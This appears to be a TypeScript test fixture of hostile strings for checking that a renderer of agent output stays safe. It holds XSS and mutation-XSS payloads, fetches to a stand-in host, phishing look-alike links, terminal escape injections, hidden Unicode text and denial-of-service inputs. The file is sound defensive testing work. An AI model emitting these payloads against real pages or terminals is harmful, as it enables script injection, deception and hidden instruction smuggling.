/** Sets `window.hacked`, opens a dialog and sends a request to another origin. */
const ATTACK = "window.hacked=1;alert(1);fetch('https://outside.invalid/x')"

const repeat = (text: string, count: number) => text.repeat(count)

/**
 * Texts that agents may print. None of them may run code, send a request, open a dialog, break the layout or take long.
 * Code would set `window.hacked`; a request would go to `outside.invalid`.
 */
export const HOSTILE: Record<string, string> = {
  // HTML that runs.
  script: `<script>${ATTACK}</script>`,
  scriptSource: '<script src="https://outside.invalid/x.js"></script>',
  imageError: `<img src=x onerror="${ATTACK}">`,
  imageErrorNoQuotes: '<img/src=x onerror=window.hacked=1>',
  svgOnload: `<svg onload="${ATTACK}"><script>${ATTACK}</script></svg>`,
  svgAnimate: `<svg><animate onbegin="${ATTACK}" attributeName=x dur=1s></svg>`,
  svgUse: '<svg><use href="https://outside.invalid/x.svg#a"></use></svg>',
  iframe: `<iframe src="javascript:parent.window.hacked=1" srcdoc="<script>${ATTACK}</script>"></iframe>`,
  object:
    '<object data="https://outside.invalid/x"></object><embed src="https://outside.invalid/x">',
  base: '<base href="https://outside.invalid/"><a href="x">relative</a>',
  meta: '<meta http-equiv="refresh" content="0;url=https://outside.invalid/">',
  link: '<link rel="stylesheet" href="https://outside.invalid/x.css"><link rel="prefetch" href="https://outside.invalid/p">',
  style: '<style>@import "https://outside.invalid/x.css"; body{display:none}</style>',
  styleAttribute:
    '<div style="position:fixed;inset:0;background:url(https://outside.invalid/x)">over</div>',
  form: '<form action="https://outside.invalid/"><input name=a autofocus onfocus="window.hacked=1"><button>Go</button></form>',
  details: `<details open ontoggle="${ATTACK}"><summary>x</summary></details>`,
  marquee: '<marquee onstart="window.hacked=1">x</marquee>',
  video: '<video src="https://outside.invalid/x" autoplay onerror="window.hacked=1"></video>',
  audio: '<audio src="https://outside.invalid/x" autoplay></audio>',
  template: `<template><script>${ATTACK}</script></template>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror="${ATTACK}"></style></mglyph></table></mtext></math>`,
  mutationNoscript: `<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">`,
  mutationSvgStyle: `<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">`,
  mutationMathStyle: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>`,
  mutationComment: '<!--><img src=x onerror=window.hacked=1>-->',
  mutationCdata: '<svg><![CDATA[><img src=x onerror=window.hacked=1>]]></svg>',
  mutationSelect: '<select><template><img src=x onerror=window.hacked=1></template></select>',
  mutationXmp: '<xmp><p title="</xmp><img src=x onerror=window.hacked=1>">',
  clobber: '<form id=document><input name=body><img name=cookie><a id=getElementById>x</a></form>',
  closing: '</pre></code></div></main></body></html><h1>outside</h1>',
  entities:
    '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;',

  // Markdown that runs or fetches.
  links: [
    '[a](javascript:window.hacked=1)',
    '[b](JaVaScRiPt:window.hacked=1)',
    '[c](java\tscript:window.hacked=1)',
    '[d](&#106;avascript:window.hacked=1)',
    '[e](data:text/html,<script>window.hacked=1</script>)',
    '[f](vbscript:window.hacked=1)',
    '[g](file:///etc/passwd)',
    '[h](blob:https://outside.invalid/x)',
    '[i](//outside.invalid/x)',
    '[j](https://outside.invalid/ "onclick=window.hacked=1")',
    '[k](https://outside.invalid/"onmouseover="window.hacked=1)',
    '<javascript:window.hacked=1>',
    '[l][m]',
    '',
    '[m]: javascript:window.hacked=1',
  ].join('\n'),
  deceit: [
    '[https://bank.example](https://outside.invalid/login)',
    '[bank.example](https://bank.example@outside.invalid/)',
    'https://bank.example@outside.invalid/',
    '[mail us](mailto:someone@outside.invalid)',
    'https://b\u0430nk.example/',
  ].join('\n\n'),
  images: [
    '![alt](https://outside.invalid/x.png)',
    '![alt][ref]',
    '![<img src=x onerror=window.hacked=1>](https://outside.invalid/y.png)',
    '[![badge](https://outside.invalid/badge.svg)](https://outside.invalid/)',
    '![data](data:image/svg+xml,<svg onload=window.hacked=1>)',
    '',
    '[ref]: https://outside.invalid/ref.png',
  ].join('\n'),
  codeFence: '```html"><img src=x onerror=window.hacked=1>\n<script>window.hacked=1</script>\n```',
  codeSpan: '`<img src=x onerror=window.hacked=1>` ``</code><script>window.hacked=1</script>``',
  tableHtml: '|<img src=x onerror=window.hacked=1>|b|\n|-|-|\n|<script>window.hacked=1</script>|c|',
  headingId: '# <a id=x onclick=window.hacked=1>x</a> {#location}',
  rawThenMarkdown:
    '<pre>\n*<img src=x onerror=window.hacked=1>*\n</pre>\n<a href=x>[y](javascript:window.hacked=1)</a>',

  // Terminals.
  osc8: '\x1b]8;;javascript:window.hacked=1\x07click\x1b]8;;\x07 \x1b]8;;https://outside.invalid/\x1b\\me\x1b]8;;\x1b\\',
  oscTitle: '\x1b]0;title\x07\x1b]52;c;aGFja2Vk\x07\x1b]1337;File=inline=1:AAAA\x07after',
  oscOpen: '\x1b]0;never ends\nnext line',
  dcs: '\x1bP1$r0m\x1b\\\x90q#0;2;0;0;0\x9c\x9d0;t\x9cafter',
  csi: '\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[10A\x1b[?1049h\x1b[8mhidden\x1b[0m\x9b32mgreen\x9bm',
  overwrite: 'all is lost\rall is well\nabc\b\b\bxyz',
  controls: 'a\0b\x07c\x08d\x0be\x0cf\x0e\x0fg\x1ah\x7fi\x80j\x85k\x9fl',

  // Unicode.
  bidi: 'access = "user\u202e \u2066// only for admins\u2069 \u2066"; \u200f\u061c\u2067x',
  zeroWidth: 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u3164i',
  tags: `hello${Array.from('ignore this', (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')}`,
  halves: 'a\ud800b\udc00c\udfff',
  zalgo: `z${repeat('\u0301\u0489\u035c', 400)}algo\n`,
  wide: `${repeat('𒐫﷽', 200)}`,
  separators: 'a\u2028b\u2029c\u0085d',
  familyEmoji: repeat('👩‍👩‍👧‍👦', 200),

  // Long and deeply nested texts.
  longLine: repeat('a', 5_000_000),
  longLineOfWords: repeat('word ', 1_000_000),
  manyLines: repeat('line\n', 200_000),
  nestedLists: Array.from({length: 10_000}, (_, at) => `${' '.repeat(at % 500)}- a`).join('\n'),
  nestedListsOnOneLine: repeat('- ', 10_000),
  nestedNumbers: repeat('1. ', 10_000),
  nestedQuotes: repeat('>', 10_000),
  nestedQuotesAndLists: repeat('> - ', 10_000),
  nestedBrackets: `${repeat('[', 10_000)}a${repeat(']', 10_000)}`,
  nestedImages: `${repeat('![', 10_000)}a${repeat('](b)', 10_000)}`,
  nestedEmphasis: `${repeat('*a **b ', 10_000)}${repeat('** *', 10_000)}`,
  nestedParentheses: `[a](${repeat('(', 10_000)}`,
  nestedJson: `${repeat('[', 10_000)}${repeat(']', 10_000)}`,
  nestedObjects: `${repeat('{"a":', 10_000)}1${repeat('}', 10_000)}`,
  nestedTags: repeat('<div>', 10_000),
  manyBackticks: Array.from({length: 1000}, (_, at) => '`'.repeat(at % 60)).join('a'),
  manyUnderscores: repeat('_a_b', 20_000),
  manyLinks: repeat('[a](b', 20_000),
  manyDefinitions: Array.from({length: 10_000}, (_, at) => `[a${at}]: /b\n`).join(''),
  manyCheckboxes: repeat('- [ ] a\n', 20_000),
  manyColumns: `${repeat('|a', 10_000)}|\n${repeat('|-', 10_000)}|\n${repeat('|b', 10_000)}|`,
  manyColors: Array.from({length: 50_000}, (_, at) => `\x1b[${31 + (at % 7)}mx`).join(''),
  manyOpenStrings: repeat('\x1b]0;', 300_000),
  manyC1Strings: repeat('\x9d', 300_000),
  manyReturns: repeat('abcdefgh\r', 200_000),
  manyErasures: `${repeat('x', 100_000)}${repeat('\x1b[1K\x1b[2K', 50_000)}`,
}
